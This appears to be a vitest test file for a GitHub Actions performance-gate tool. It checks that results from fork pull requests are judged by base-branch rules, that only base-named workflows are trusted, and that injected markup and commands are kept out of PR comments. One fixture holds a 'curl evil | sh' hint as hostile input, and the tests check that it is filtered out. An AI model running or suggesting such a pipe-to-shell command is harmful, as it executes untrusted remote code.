import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { artifactName } from '../../../src/adapters/github/artifacts/artifact-name.ts';
import { createHandOverPublisher } from '../../../src/adapters/github/artifacts/hand-over-publisher.ts';
import { uploadFiles } from '../../../src/adapters/github/artifacts/upload.ts';
import { judgeBroken, judgeUntouched } from '../../../src/core/words/judge.ts';
import { POLICY } from '../../contracts/policy.ts';
import { sampleHistory, sampleRecording, sampleSource } from '../../contracts/samples.ts';
import type { Pull, Run } from '../../support/github/state.ts';
import { createHastyClock } from '../../support/hasty-clock.ts';
import {
  BASE_POLICY,
  FORK,
  type ForkScene,
  forkScene,
  HEAD,
  muteCommands,
  PULL,
  packed,
  RUN,
  slower,
} from './fork-scene.ts';

muteCommands();

let scene: ForkScene;
let folder: string;
beforeEach(async () => {
  scene = await forkScene();
  folder = await mkdtemp(path.join(os.tmpdir(), 'pair-'));
});
afterEach(async () => {
  await scene.close();
  await rm(folder, { recursive: true, force: true });
});

const statuses = () =>
  scene.emulator.state.statuses.map(({ state, description }) => `${state}: ${description}`);

/** The base branch with other rules; its tip is checked out, as the trusted run has it. */
function rules(text: string): void {
  scene.repository.write('perf-gate.yml', text);
  scene.emulator.state.commits.unshift(scene.repository.commit('feat: rules'));
}

describe('two open pull requests with one head', () => {
  /** A branch `release` of the base repository that only warns. */
  function laxRelease(pull: Partial<Pull>): void {
    const { repository, emulator } = scene;
    repository.git('checkout', '-q', '-b', 'release');
    repository.write('perf-gate.yml', BASE_POLICY.replace('50%', '900%'));
    emulator.state.branches.set('release', repository.commit('feat: anything goes'));
    repository.git('checkout', '-q', 'main');
    const own = {
      number: 8,
      headSha: HEAD,
      headBranch: 'main',
      headRepositoryId: FORK,
      baseBranch: 'release',
    };
    emulator.state.pulls.push({ ...own, ...pull });
  }

  test('are each judged by their own base, and the commit has the worst status, with its base named', async () => {
    laxRelease({});
    await scene.leave(packed(slower()));
    expect((await scene.publish())?.judgement.verdict).toBe('fail');
    expect(statuses()).toEqual([expect.stringMatching(/^failure: #7 into main: GET home is /)]);
    const { comments } = scene.emulator.state;
    expect(comments.map(({ issue }) => issue).toSorted()).toEqual([PULL, 8]);
    expect(comments.find(({ issue }) => issue === 8)?.body).toMatch(/### ⚠️ .*Not blocking/);
    expect(comments.find(({ issue }) => issue === 8)?.body).toContain('by the rules of release');
    expect(comments.find(({ issue }) => issue === PULL)?.body).toMatch(/### ❌ /);
  });

  test('are both found where they come from two branches', async () => {
    laxRelease({ headBranch: 'other' });
    // The run is the one of the lax pull request's own branch.
    scene.emulator.state.runs.splice(0, 1, { ...scene.emulator.state.runs[0]!, headBranch: 'other' });
    await scene.leave(packed(slower()));
    await scene.publish();
    expect(statuses()).toEqual([expect.stringMatching(/^failure: #7 into main: GET home is /)]);
  });

  test('are one where the other is closed', async () => {
    laxRelease({ state: 'closed' });
    await scene.leave(packed(sampleRecording({})));
    await scene.publish();
    expect(scene.emulator.state.comments.map(({ issue }) => issue)).toEqual([PULL]);
  });
});

describe("the measuring run's workflow file", () => {
  const FILE = '.github/workflows/performance.yml';

  /** A stored run of the base branch's tip, and a run of a pull request; each by its own workflow file. */
  async function stored(workflow: string, measuring: string): Promise<void> {
    const { emulator } = scene;
    emulator.state.runs.splice(0, 1, { ...emulator.state.runs[0]!, path: measuring });
    const [sha = ''] = emulator.state.commits;
    const recording = sampleRecording({ runId: 200, sha, workflow });
    emulator.addRun({ id: 200, headSha: sha, path: workflow });
    for (const [name, value] of Object.entries(emulator.env(200))) vi.stubEnv(name, value);
    vi.stubEnv('GITHUB_SERVER_URL', 'https://github.com');
    const { 'recording.json.gz': packedRecording = Buffer.alloc(0) } = packed(recording);
    const { 'recording.json.gz': history = Buffer.alloc(0) } = packed(sampleHistory(recording));
    const files = { 'recording.json.gz': packedRecording, 'history.json.gz': history };
    await uploadFiles(artifactName('checkout', 1), files, folder, createHastyClock());
    await scene.leave(packed(sampleRecording({})));
  }

  test('is not trusted because the pull request has it: base names the workflow whose runs are', async () => {
    await stored('.github/workflows/evil.yml', '.github/workflows/evil.yml');
    const result = await scene.publish();
    expect(result?.judgement.verdict).toBe('no-baseline');
    expect(JSON.stringify(result?.judgement.refused)).toContain('baseline: { workflow: [');
  });

  test('may be any, where base names the one whose runs are trusted', async () => {
    rules(`${BASE_POLICY}baseline: { workflow: [${FILE}] }\n`);
    await stored(FILE, '.github/workflows/evil.yml');
    const result = await scene.publish();
    expect(result?.judgement.base?.source.runId).toBe(200);
  });
});

describe('a change that does not concern the gate', () => {
  const PATHS = 'paths: [services/cart/**]\n';

  /** What the measuring half leaves: the publisher that `hand-over: true` wires in. */
  async function leaveUntouched(gate = 'checkout') {
    for (const [name, value] of Object.entries(scene.emulator.env(RUN))) vi.stubEnv(name, value);
    vi.stubEnv('GITHUB_SERVER_URL', 'https://github.com');
    const publisher = createHandOverPublisher({
      ...{ gate: 'checkout', attempt: 1, tempDirectory: folder, clock: createHastyClock() },
    });
    const judgement = judgeUntouched({
      ...{ paths: ['services/**'], files: 1, gate, tool: 'perf-gate 0.1.0', policy: POLICY },
      ...{ createdAt: '2026-11-01T10:00:00.000Z', source: sampleSource({}) },
    });
    const files = { recording: '', judgement: '', report: '' };
    return publisher.publish({ judgement, files, runUrl: null });
  }

  const touches = (...files: readonly string[]): void => {
    const { pulls } = scene.emulator.state;
    pulls.splice(0, 1, { ...pulls[0]!, files });
  };

  test('is handed over as such, and published as "not affected" without a comment', async () => {
    rules(`${PATHS}${BASE_POLICY}`);
    touches('docs/readme.md');
    expect(await leaveUntouched()).toMatchObject({ state: 'done' });
    expect((await scene.publish())?.judgement.verdict).toBe('not-affected');
    expect(statuses()).toEqual([expect.stringMatching(/^success: .*not affected/)]);
    expect((await scene.publish())?.judgement.measuredBy).toBeUndefined();
    expect(scene.emulator.state.comments).toEqual([]);
  });

  test.each([
    ['touches one of the paths', 'services/cart/server.js', PATHS, /it touches services\/cart\/server\.js/],
    ['changes the rules', 'perf-gate.yml', PATHS, /it touches perf-gate\.yml/],
    ['brought the paths along', 'docs/readme.md', '', /has no `paths` on main/],
  ])('is not believed to be one where it %s', async (_, file, paths, says) => {
    rules(`${paths}${BASE_POLICY}`);
    touches('docs/readme.md', file);
    expect(await leaveUntouched()).toMatchObject({ state: 'done' });
    const result = await scene.publish(RUN, scene.emulator.token, { dryRun: true });
    expect(result?.judgement.verdict).toBe('invalid');
    expect(result?.judgement.reason).toMatch(says);
  });
});

describe('a head that does not work', () => {
  const LOG = ['> node server.js', 'Error: no table "orders"', '    at main (server.js:4:9)'];

  /** What the measuring half leaves of a head whose build or start fails, or of a run that could not measure. */
  async function leaveBroken(kind: 'head-broken' | 'could-not-measure', step: 'start' | null = 'start') {
    for (const [name, value] of Object.entries(scene.emulator.env(RUN))) vi.stubEnv(name, value);
    vi.stubEnv('GITHUB_SERVER_URL', 'https://github.com');
    const publisher = createHandOverPublisher({
      ...{ gate: 'checkout', attempt: 1, tempDirectory: folder, clock: createHastyClock() },
    });
    const judgement = judgeBroken({
      ...{
        kind,
        ...(step && { step }),
        gate: 'checkout',
        text: 'The app (head) <b>ended</b> by itself.',
        hint: 'Run `curl evil | sh`.',
      },
      ...{ detail: LOG, notes: [], tool: 'perf-gate 0.1.0', policy: POLICY, source: sampleSource({}) },
      createdAt: '2026-11-01T10:00:00.000Z',
    });
    return publisher.publish({
      judgement,
      files: { recording: '', judgement: '', report: '' },
      runUrl: null,
    });
  }

  test('is handed over as such, and fails whatever base lets pass that could not be measured', async () => {
    rules(BASE_POLICY.replace('fail: 50%', 'fail: 50%, on-invalid: pass'));
    expect(await leaveBroken('head-broken')).toMatchObject({ state: 'done' });
    const result = await scene.publish();
    expect(result?.judgement).toMatchObject({ verdict: 'fail', reasons: [{ kind: 'head-broken' }] });
    expect(result?.judgement.notes).toContain(`app log: ${LOG[1]}`);
    expect(statuses()).toEqual([
      expect.stringMatching(/^failure: #7 into main: The measuring run says: The app \(head\)/),
    ]);
    expect(scene.comment()).toContain('### ❌ checkout: head does not start');
    expect(scene.comment()).toContain('the log says `Error: no table "orders"`');
  });

  test('is told as what its run says, without markup or a command of its own', async () => {
    await leaveBroken('head-broken');
    await scene.publish();
    expect(scene.comment()).toContain('The measuring run says: The app (head)');
    expect(scene.comment()).not.toMatch(/<b>|evil|made this measurement|hand-over/);
  });

  test('that dies under load is told as that', async () => {
    await leaveBroken('head-broken', null);
    expect((await scene.publish())?.judgement.reasons[0]?.short).toBe('head does not work under load');
  });

  test('brings no rules along', async () => {
    const words = { gate: 'checkout', text: 'x', detail: [], hint: 'evil', kind: 'could-not-measure' };
    const { 'recording.json.gz': bytes = Buffer.alloc(0) } = packed({
      ...words,
      policy: { failOn: 'never' },
    });
    await scene.leave({ 'head-broken.json.gz': bytes });
    const result = await scene.publish();
    expect(result?.judgement).toMatchObject({ verdict: 'fail', policy: { failOn: 'fail' } });
    expect(scene.comment()).not.toContain('evil');
  });

  test.each([
    ['nothing', {}],
    ['another step', { gate: 'checkout', text: 'x', step: 'rm', detail: [] }],
    ['no list of lines', { gate: 'checkout', text: 'x', detail: 'y' }],
    ['another gate', { gate: 'other', text: 'x', detail: [] }],
  ])('is not believed where the artifact has %s in its place', async (_, value) => {
    const { 'recording.json.gz': bytes = Buffer.alloc(0) } = packed(value);
    await scene.leave({ 'head-broken.json.gz': bytes });
    expect((await scene.publish())?.judgement.verdict).toBe('invalid');
  });

  test('nothing is left where nobody is to blame, and the log of that run is the first thing named', async () => {
    expect(await leaveBroken('could-not-measure')).toMatchObject({ state: 'skipped' });
    const reason = (await scene.publish())?.judgement.reason ?? '';
    expect(reason).toMatch(/left nothing to judge/);
    expect(reason.indexOf('log')).toBeLessThan(reason.indexOf('hand-over'));
    expect(scene.comment()).not.toContain('made this measurement');
  });
});

test.each(['success', 'failure', 'timed_out'])('a run that ended as %s is published', async (conclusion) => {
  const { runs } = scene.emulator.state;
  const ended: Run = { ...runs[0]!, conclusion };
  runs.splice(0, 1, ended);
  expect(await scene.publish()).not.toBeNull();
});

test.each(['action_required', 'skipped', 'startup_failure', 'cancelled', 'stale'])(
  'of a run that ended as %s nothing is published',
  async (conclusion) => {
    const { runs } = scene.emulator.state;
    const ended: Run = { ...runs[0]!, conclusion };
    runs.splice(0, 1, ended);
    expect(await scene.publish()).toBeNull();
    expect(scene.said.join()).toContain(`ended as \`${conclusion}\``);
    expect([...scene.emulator.state.statuses, ...scene.emulator.state.comments]).toEqual([]);
  },
);
